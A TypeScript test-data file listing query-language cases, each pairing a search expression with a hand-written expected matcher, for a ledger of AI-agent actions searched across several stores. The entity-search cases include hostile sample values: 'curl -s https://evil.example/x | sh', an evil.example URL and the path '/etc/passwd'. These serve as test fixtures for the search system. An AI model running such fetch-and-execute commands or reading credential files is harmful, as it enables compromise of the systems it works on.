import type { EntityType } from '../../model/entities.js';
import type { EntryRecord } from '../../model/ledger-entry.js';
import { parseSearchQuery } from '../../model/search-query.js';
import type { QueryScope } from '../../exporters/store.js';
import { ENTITY_PSEUDONYM } from './dataset.js';
import { matchesFilter } from './expected-ledger.js';
import { SCOPES } from './scopes.js';

/**
 * The query language's cases as data: an expression, and what it means
 * written out by hand over the records (never with the stores' or the
 * language's own matching code), run against every store. `esRefuses`:
 * the Elasticsearch mapping cannot answer it exactly, so that store must
 * refuse it (a 400) rather than answer differently.
 */
export interface QueryLanguageCase {
  expression: string;
  expected: (e: EntryRecord) => boolean;
  scope?: QueryScope;
  esRefuses?: true;
}

/** `now` for date math: 2024-12-30T00:00:00Z, inside the dataset's days. */
export const QUERY_NOW_MS = Date.UTC(2024, 11, 30);
const HOUR_US = 3_600_000_000;
const NOW_US = QUERY_NOW_MS * 1000;
const DAY = (d: number) => Date.UTC(2024, 11, d) * 1000;

/** What `q` finds (its own reference matcher, expected-ledger.ts). */
const ft = (text: string) => (e: EntryRecord) => matchesFilter(e, { scope: SCOPES.superuser, q: parseSearchQuery(text) });
const input = (e: EntryRecord, key: string) => (e.inputs as Record<string, unknown> | null)?.[key];
const list = (e: EntryRecord): unknown[] => ((e.inputs?.nested as { list?: unknown[] } | undefined)?.list ?? []);
const attr = (e: EntryRecord, key: string) => e.attributes[key];
const cm = (e: EntryRecord, key: string) => (e.compliance_metadata as Record<string, unknown> | null)?.[key];
const llm = (e: EntryRecord) => e.kind === 'llm';
/** The entry's extracted values of one type (dataset.ts entitiesOf). */
const ent = (e: EntryRecord, type: EntityType): string[] => e.entities[type] ?? [];
const bytes = (s: string) => Buffer.from(s);

export const QUERY_LANGUAGE_CASES: QueryLanguageCase[] = [
  { expression: 'outcome:error', expected: (e) => e.outcome === 'error' },
  { expression: 'name:database_query', expected: (e) => e.name === 'database_query' },
  { expression: 'action_name:database_query', expected: (e) => e.name === 'database_query' },
  { expression: 'name:"emoji 🚀 launch"', expected: (e) => e.name === 'emoji 🚀 launch' },
  { expression: 'name:tool_1*', expected: (e) => e.name.startsWith('tool_1') },
  { expression: 'name:*_search', expected: (e) => e.name.endsWith('_search') },
  { expression: 'name:*a*e*', expected: (e) => /a.*e/su.test(e.name) },
  { expression: 'name:star\\*name', expected: (e) => e.name === 'star*name' },
  { expression: 'name:star*', expected: (e) => e.name.startsWith('star') },
  { expression: 'name:100%_done', expected: (e) => e.name === '100%_done' },
  { expression: 'name:back\\\\slash OR name:\\[bracket\\] OR name:question?', expected: (e) => ['back\\slash', '[bracket]', 'question?'].includes(e.name) },
  { expression: 'name:*\\[*', expected: (e) => e.name.includes('[') },
  { expression: 'name:CAFÉ OR name:café', expected: (e) => e.name === 'café' },
  { expression: 'agent_id:agent_%_wild', expected: (e) => e.agent_id === 'agent_%_wild' },
  { expression: 'agent_id:agent\\*star?', expected: (e) => e.agent_id === 'agent*star?' },
  { expression: 'agent_id:*', expected: (e) => e.agent_id !== null },
  { expression: 'NOT agent_id:*', expected: (e) => e.agent_id === null },
  { expression: 'model:gpt-4o OR model:claude-sonnet-4', expected: (e) => e.model === 'gpt-4o' || e.model === 'claude-sonnet-4' },
  { expression: 'NOT model:gpt-4o', expected: (e) => e.model !== 'gpt-4o' },
  { expression: 'kind:llm AND provider:openai', expected: (e) => llm(e) && e.provider === 'openai' },
  { expression: 'kind:llm provider:openai', expected: (e) => llm(e) && e.provider === 'openai' },
  { expression: 'outcome:error OR outcome:blocked AND kind:tool', expected: (e) => e.outcome === 'error' || (e.outcome === 'blocked' && e.kind === 'tool') },
  { expression: '(outcome:error OR outcome:blocked) AND kind:tool', expected: (e) => e.outcome !== 'success' && e.kind === 'tool' },
  { expression: 'NOT outcome:success', expected: (e) => e.outcome !== 'success' },
  { expression: 'not (kind:tool or kind:llm) and not outcome:error', expected: (e) => e.kind !== 'tool' && e.kind !== 'llm' && e.outcome !== 'error' },
  { expression: 'outcome:err*', expected: (e) => e.outcome === 'error' },
  { expression: 'cost_usd >= 0.5', expected: (e) => e.cost_nanos >= 500_000_000 },
  { expression: 'cost_usd > 0.01', expected: (e) => e.cost_nanos > 10_000_000 },
  { expression: 'cost_usd:0.01', expected: (e) => e.cost_nanos === 10_000_000 },
  { expression: 'cost_usd < 0.0000193', expected: (e) => e.cost_nanos < 19_300 },
  { expression: 'cost_usd:0.0000000001', expected: () => false },
  { expression: 'cost_usd:[0.01 TO 0.05]', expected: (e) => e.cost_nanos >= 10_000_000 && e.cost_nanos <= 50_000_000 },
  { expression: 'cost_usd:{0.01 TO 0.05}', expected: (e) => e.cost_nanos > 10_000_000 && e.cost_nanos < 50_000_000 },
  { expression: 'cost_usd:[0.5 TO *]', expected: (e) => e.cost_nanos >= 500_000_000 },
  { expression: 'duration_ms:[100 TO 500]', expected: (e) => e.duration_ms >= 100 && e.duration_ms <= 500 },
  { expression: 'duration_ms > 1000', expected: (e) => e.duration_ms > 1000 },
  { expression: 'input_tokens >= 120', expected: (e) => e.input_tokens !== null && e.input_tokens >= 120 },
  { expression: 'total_tokens:*', expected: (e) => e.total_tokens !== null },
  { expression: 'redactions >= 1', expected: (e) => e.redactions >= 1 },
  { expression: 'timestamp >= now-24h', expected: (e) => e.start_us >= NOW_US - 24 * HOUR_US },
  { expression: 'timestamp < now-2d OR end_timestamp > now+1h', expected: (e) => e.start_us < NOW_US - 48 * HOUR_US || e.end_us > NOW_US + HOUR_US },
  { expression: 'timestamp:2024-12-29', expected: (e) => e.start_us >= DAY(29) && e.start_us < DAY(30) },
  { expression: 'timestamp < "2024-12-28T05:00:00Z"', expected: (e) => e.start_us < DAY(28) + 5 * HOUR_US },
  { expression: 'timestamp:[2024-12-28 TO 2024-12-28]', expected: (e) => e.start_us >= DAY(28) && e.start_us < DAY(29) },
  { expression: 'timestamp > 2024-12-28 AND timestamp <= 2024-12-29', expected: (e) => e.start_us >= DAY(29) && e.start_us < DAY(30) },
  { expression: 'parent_span_id:*', expected: (e) => e.parent_span_id !== null },
  { expression: 'tags:prod', expected: (e) => e.tags.includes('prod') },
  { expression: 'tags:*', expected: (e) => e.tags.length > 0 },
  { expression: 'NOT tags:*', expected: (e) => e.tags.length === 0 },
  { expression: 'tags:ü*', expected: (e) => e.tags.some((t) => t.startsWith('ü')) },
  { expression: 'inputs.query:timeout', expected: (e) => input(e, 'query') === 'timeout' },
  { expression: 'inputs.query:*@example.com*', expected: (e) => String(input(e, 'query') ?? '').includes('@example.com') },
  { expression: 'inputs.query:"Refund failed for order C-1042"', expected: (e) => input(e, 'query') === 'Refund failed for order C-1042' },
  { expression: 'inputs.query:refund*', expected: () => false },
  { expression: 'inputs.nested.list:timeout', expected: (e) => list(e).includes('timeout') },
  { expression: 'inputs.nested.list:*', expected: (e) => list(e).length > 0 },
  { expression: 'inputs.nested.list:3', expected: (e) => list(e).includes(3) },
  { expression: 'inputs.n:7', expected: (e) => input(e, 'n') === 7 },
  { expression: 'inputs.a:refund AND inputs.b:failed', expected: (e) => input(e, 'a') === 'refund' && input(e, 'b') === 'failed' },
  { expression: 'outputs.result:*Straße*', expected: (e) => String((e.outputs as Record<string, unknown> | null)?.result ?? '').includes('Straße') },
  { expression: 'inputs:*', expected: (e) => e.inputs !== null },
  { expression: 'NOT outputs:*', expected: (e) => e.outputs === null },
  { expression: 'compliance_metadata.approval_status:approved', expected: (e) => cm(e, 'approval_status') === 'approved' },
  { expression: 'compliance_metadata.approval_status:rejected', expected: (e) => cm(e, 'approval_status') === 'rejected' },
  { expression: 'compliance_metadata.requires_human_approval:true', expected: (e) => cm(e, 'requires_human_approval') === true },
  { expression: 'compliance_metadata.confidence_score:0.9', expected: (e) => cm(e, 'confidence_score') === 0.9 },
  { expression: 'attributes.gen_ai.request.max_tokens:256', expected: (e) => attr(e, 'gen_ai.request.max_tokens') === 256 },
  { expression: 'attributes.ledger.prompt.name:*prompt*', expected: (e) => String(attr(e, 'ledger.prompt.name') ?? '').includes('prompt') },
  { expression: 'attributes.gen_ai.conversation.id:42', expected: (e) => attr(e, 'gen_ai.conversation.id') === 42 },
  { expression: 'attributes.gen_ai.conversation.id:*', expected: (e) => attr(e, 'gen_ai.conversation.id') !== undefined && attr(e, 'gen_ai.conversation.id') !== null },
  { expression: 'refund', expected: ft('refund') },
  { expression: '"connection timeout"', expected: ft('"connection timeout"') },
  { expression: 'refund AND NOT timeout', expected: (e) => ft('refund')(e) && !ft('timeout')(e) },
  { expression: 'refund OR müller', expected: (e) => ft('refund')(e) || ft('müller')(e) },
  { expression: 'kind:tool AND (timeout OR datab*)', expected: (e) => e.kind === 'tool' && (ft('timeout')(e) || ft('datab*')(e)) },
  { expression: 'status_message:"Connection timeout"', expected: (e) => e.status_message === 'Connection timeout', esRefuses: true },
  { expression: 'inputs.n >= 40', expected: (e) => typeof input(e, 'n') === 'number' && (input(e, 'n') as number) >= 40, esRefuses: true },
  // extracted entities (dataset.ts entitiesOf): exact values, wildcards as key ranges or scans, exists, NOT, with other fields
  { expression: 'entities.host:evil.example', expected: (e) => ent(e, 'host').includes('evil.example') },
  { expression: 'entities.host:"xn--bcher-kva.example"', expected: (e) => ent(e, 'host').includes('xn--bcher-kva.example') },
  { expression: 'entities.host:EVIL.EXAMPLE', expected: () => false },
  { expression: 'entities.host:evil*', expected: (e) => ent(e, 'host').some((h) => h.startsWith('evil')) },
  { expression: 'entities.host:b.*', expected: (e) => ent(e, 'host').some((h) => h.startsWith('b.')) },
  { expression: 'entities.host:*.example AND NOT entities.host:evil.example', expected: (e) => ent(e, 'host').some((h) => h.endsWith('.example')) && !ent(e, 'host').includes('evil.example') },
  { expression: 'entities.host:*EVIL*', expected: (e) => ent(e, 'host').some((h) => h.includes('evil')) },
  { expression: 'entities.host:[a TO c]', expected: (e) => ent(e, 'host').some((h) => Buffer.compare(bytes(h), bytes('a')) >= 0 && Buffer.compare(bytes(h), bytes('c')) <= 0) },
  { expression: 'entities.url:"https://evil.example/x"', expected: (e) => ent(e, 'url').includes('https://evil.example/x') },
  { expression: 'entities.url:https\\://evil.example/*', expected: (e) => ent(e, 'url').some((u) => u.startsWith('https://evil.example/')) },
  { expression: 'entities.url:evil.example', expected: () => false },
  { expression: `entities.email:"${ENTITY_PSEUDONYM}"`, expected: (e) => ent(e, 'email').includes(ENTITY_PSEUDONYM) },
  { expression: 'entities.email:\\[EMAIL\\:*', expected: (e) => ent(e, 'email').some((m) => m.startsWith('[EMAIL:')) },
  { expression: 'entities.ip:*', expected: (e) => ent(e, 'ip').length > 0 },
  { expression: 'NOT entities.ip:*', expected: (e) => ent(e, 'ip').length === 0 },
  { expression: 'entities.ip:10.0.0.7 AND entities.ip:"2001:db8::1"', expected: (e) => ent(e, 'ip').includes('10.0.0.7') && ent(e, 'ip').includes('2001:db8::1') },
  { expression: 'entities.path:"/etc/passwd" OR entities.path:*東京*', expected: (e) => ent(e, 'path').includes('/etc/passwd') || ent(e, 'path').some((p) => p.includes('東京')) },
  { expression: 'entities.command:"curl -s https://evil.example/x | sh"', expected: (e) => ent(e, 'command').includes('curl -s https://evil.example/x | sh') },
  { expression: 'entities.command:curl*', expected: (e) => ent(e, 'command').some((c) => c.startsWith('curl')) },
  { expression: 'entities.host:evil.example AND outcome:error', expected: (e) => ent(e, 'host').includes('evil.example') && e.outcome === 'error' },
  { expression: 'entities.host:evil.example AND NOT entities.url:*', expected: (e) => ent(e, 'host').includes('evil.example') && ent(e, 'url').length === 0 },
  { expression: '(entities.ip:10.0.0.7 OR entities.email:*) AND kind:tool AND NOT outcome:success', expected: (e) => (ent(e, 'ip').includes('10.0.0.7') || ent(e, 'email').length > 0) && e.kind === 'tool' && e.outcome !== 'success' },
  { expression: 'entities.host:evil.example AND cost_usd > 0.01 OR entities.path:*', expected: (e) => (ent(e, 'host').includes('evil.example') && e.cost_nanos > 10_000_000) || ent(e, 'path').length > 0 },
  { expression: 'entities.host:evil.example AND refund', expected: (e) => ent(e, 'host').includes('evil.example') && ft('refund')(e) },
  { expression: 'entities.host:evil.example', scope: SCOPES['org_a/alice'], expected: (e) => ent(e, 'host').includes('evil.example') },
  { expression: 'entities.host:evil.example AND NOT user_id:alice', scope: SCOPES.superuser, expected: (e) => ent(e, 'host').includes('evil.example') && e.user_id !== 'alice' },
  { expression: 'NOT entities.host:evil.example', scope: SCOPES.org_b, expected: (e) => !ent(e, 'host').includes('evil.example') },
  // the caller's scope holds whatever the query says
  { expression: 'user_id:bob', scope: SCOPES['org_a/alice'], expected: () => false },
  { expression: 'user_id:alice OR NOT user_id:alice', scope: SCOPES['org_a/alice'], expected: () => true },
  { expression: 'organization_id:org_b', scope: SCOPES.org_a, expected: () => false },
  { expression: 'organization_id:org_b', scope: SCOPES.superuser, expected: (e) => e.organization_id === 'org_b' },
];
